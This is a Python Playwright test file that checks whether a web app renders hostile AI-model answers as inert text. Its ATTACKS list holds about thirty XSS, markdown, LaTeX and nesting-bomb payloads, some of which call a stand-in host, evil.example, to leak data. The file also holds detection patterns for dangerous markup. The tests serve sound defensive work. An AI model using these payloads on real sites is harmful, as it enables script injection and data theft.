"""What a model writes is text: it runs nothing, loads nothing, and stays in its place."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from core.database import Database
from core.events import EventLog, Piece
from core.messages import ModelName, TaskType
from tests.harness import Installation
from tests.page.conftest import Visitor
from tests.page.scenery import answered, insert_job

END = "\n\nthe end of it"
ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1' attributeName=x dur=1s></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe><object data='javascript:window.pwned=1'></object>",
    "<form action='https://evil.example/'><input name=key><button autofocus onfocus='window.pwned = 1'>",
    "<style>@import url('https://evil.example/a.css'); * { display: none }</style>",
    "<a href='javascript:window.pwned = 1'>press</a> <base href='https://evil.example/'>",
    "[press](javascript:window.pwned=1) [press](JaVaScRiPt:window.pwned=1) [press](data:text/html,<script>1</script>)",
    "[press](vbscript:x) [press](&#106;avascript:window.pwned=1) [press](java&#10;script:window.pwned=1)",
    "![picture](https://evil.example/beacon.png?secret) ![x](javascript:window.pwned=1)",
    '<javascript:window.pwned=1> <https://evil.example/" onmouseover="window.pwned=1>',
    "[x]: javascript:window.pwned=1\n\n[press][x]",
    '```html" onmouseover="window.pwned=1\n<script>window.pwned = 1</script>\n```',
    "```</code></pre><script>window.pwned=1</script>\nx\n```",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | d |",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    r"$\href{javascript:window.pwned=1}{press}$ $\url{javascript:window.pwned=1}$",
    r"$\includegraphics{https://evil.example/a.png}$ $\class{bar}{x}$ $\id{app}{x}$ $\style{position:fixed}{x}$",
    r"$$\data{onclick=window.pwned=1}{x} \text{<img src=x onerror=window.pwned=1>}$$",
    r"$\def\a{\a\a}\a$ $\rule{100000em}{100000em}$ $\raise{9999em}{x}$ $\kern-9999em x$",
    r"$\color{red;background:url(https://evil.example/a)}{x}$ $\colorbox{url(https://evil.example/b)}{x}$",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "> " * 3000 + "deep",
    "- " * 3000 + "deep",
    "*" * 20_000 + "a" + "*" * 20_000,
    "[" * 5000 + "x" + "](" * 5000,
    "$" * 9999 + r"\frac{" * 3000,
    "`" * 5001 + "x" + "<script>window.pwned=1</script>",
    "<" * 20_000,
    "\u202e\u2066<script>window.pwned=1</script>\ufeff\ufffd",
]
FORBIDDEN = (
    "script, img, iframe, object, embed, svg, form, style, base, link, meta, input:not([type=checkbox]), [srcdoc]"
)
LEAKS = """root => [...root.querySelectorAll('*')].flatMap(element => [...element.attributes].filter(({name, value}) =>
    /^on/i.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value) || (name === 'style' && /url|fixed|absolute/.test(value)))
    .map(({name, value}) => `${element.tagName} ${name}=${value}`))"""


def must_be_harmless(page: Page) -> None:
    prose = page.locator(".part")
    assert prose.locator(FORBIDDEN).count() == 0
    assert prose.first.evaluate(LEAKS) == []
    for link in page.get_by_role("link", name="press").all():
        assert (link.get_attribute("href") or "").startswith(("http:", "https:", "mailto:"))
    for element in page.get_by_text("press", exact=True).all():
        element.click(force=True)
    children = "[...document.body.children].map(each => each.localName)"
    assert page.evaluate(f"[window.pwned, {children}, location.hash.slice(0, 7)]") == [
        None,
        ["div", "noscript"],
        "#/jobs/",
    ]
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_a_hostile_answer_is_only_shown(
    keyholder: Visitor, ledger: Database, operator: tuple[str, str], attack: str
) -> None:
    job_id = answered(ledger, attack, TaskType.MATH, attack + END, reasons=(attack,), key_id=operator[0])
    page = keyholder.open(f"#/jobs/{job_id}")
    expect(page.locator(".part")).to_contain_text("the end of it")
    page.locator(".route summary").click()
    must_be_harmless(page)
    page.goto(f"{keyholder.url}/#/jobs")
    expect(page.get_by_role("row")).to_have_count(2)
    assert page.evaluate("window.pwned") is None


def test_a_hostile_stream_is_only_shown_at_every_piece(
    keyholder: Visitor, ledger: Database, quiet: Installation, operator: tuple[str, str]
) -> None:
    job_id = insert_job(ledger, "Prove it", TaskType.MATH, key_id=operator[0])
    events = EventLog.connect(quiet.redis_url)
    page = keyholder.open(f"#/jobs/{job_id}")
    text = "\n\n".join(ATTACKS[:22]) + END
    for start in range(0, len(text), 50):
        events.append(job_id, Piece(model=ModelName.MATHSTRAL, attempt=1, text=text[start : start + 50]))
    expect(page.locator(".part")).to_contain_text("the end of it")
    must_be_harmless(page)
